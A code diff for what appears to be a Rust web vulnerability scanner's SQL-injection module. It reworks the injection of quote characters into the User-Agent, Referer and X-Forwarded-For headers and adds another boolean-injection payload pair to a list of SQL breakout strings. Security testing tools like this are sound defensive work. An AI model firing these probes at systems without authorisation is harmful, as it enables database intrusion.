@@ -25,11 +25,12 @@ use super::condition::{Grammar, condition_by};
 use super::spelling::{is_name, spelled};
 use super::union::union;
 use super::waiting::{Waits, waits};
-use super::{Attack, Phase, shuffled};
-use crate::aim::{Aim, Sent, aims, head};
-use crate::call::Put;
+use super::{Attack, Phase, shuffled, usable};
+use crate::aim::{Aim, Sent, aim_at, aims};
+use crate::call::{Call, Put};
 use crate::compare::{Profile, restored};
 use crate::field::{Field, Known};
+use crate::operation::{Place, Point};
 use crate::verdict::{Proof, Verdict};
 use crate::wire::{Answer, WireError};
 
@@ -58,7 +59,7 @@ async fn run(field: &Field) -> Result<(), WireError> {
         tested = tested.saturating_add(1);
         attack(aim).await?;
     }
-    for known in field.attempts() {
+    for known in field.attempts().filter(|known| field.has_turn(known)) {
         heads(field, known).await?;
     }
     if tested == 0 {
@@ -72,22 +73,29 @@ const HEADS: &[&str] = &["User-Agent", "Referer", "X-Forwarded-For"];
 
 /// Quotation marks in all of them at once; where that makes a difference, each by itself.
 async fn heads(field: &Field, known: &Known) -> Result<(), WireError> {
-    let all: Vec<Aim<'_>> = HEADS.iter().filter_map(|name| head(field, known, name)).collect();
-    let Some(first) = all.first() else { return Ok(()) };
-    let Some(base) = first.profile().await? else { return Ok(()) };
-    let with =
-        |text: &str| all.iter().fold(known.call.clone(), |call, aim| call.with(&aim.point, &Put::Text(text)));
-    let broken = format!("{}'\"", first.original);
-    let plain = first.send_call(&with(&first.original), first.original.clone()).await?;
-    let broken = first.send_call(&with(&broken), broken).await?;
-    let fits = |sent: &Option<Sent>| sent.as_ref().is_some_and(|sent| first.fits(&base, sent));
-    if fits(&plain) && !fits(&broken) {
-        for aim in &all {
-            attack(aim).await?;
+    let with = |names: &[&str], text: &str| {
+        let put = |call: Call, name: &&str| call.with(&Point::new(Place::Header, name), &Put::Text(text));
+        names.iter().fold(known.call.clone(), put)
+    };
+    let broken = format!("{HEAD}'\"");
+    let plain = usable(field.call(known.who, &with(HEADS, HEAD)).await)?;
+    let changed = usable(field.call(known.who, &with(HEADS, &broken)).await)?;
+    let (Some(plain), Some(changed)) = (plain, changed) else { return Ok(()) };
+    if Profile::of(&[&plain]).is_none_or(|base| base.fits(&changed, &broken, HEAD)) {
+        return Ok(());
+    }
+    for name in HEADS {
+        let own = Known { call: with(&[*name], HEAD), ..known.clone() };
+        let point = Point::new(Place::Header, name);
+        if let Some(aim) = aim_at(field, &own, point) {
+            attack(&aim).await?;
         }
     }
     Ok(())
 }
+
+/// What stands in them otherwise.
+const HEAD: &str = "probe";
 
 const SQL: Grammar = Grammar {
     who: "the database",
@@ -107,6 +115,7 @@ const SQL: Grammar = Grammar {
         ("%')", "('%'='"),
         (")", "(1=1"),
         ("'))", "(('1'='1"),
+        ("))", "((1=1"),
     ],
 };
 
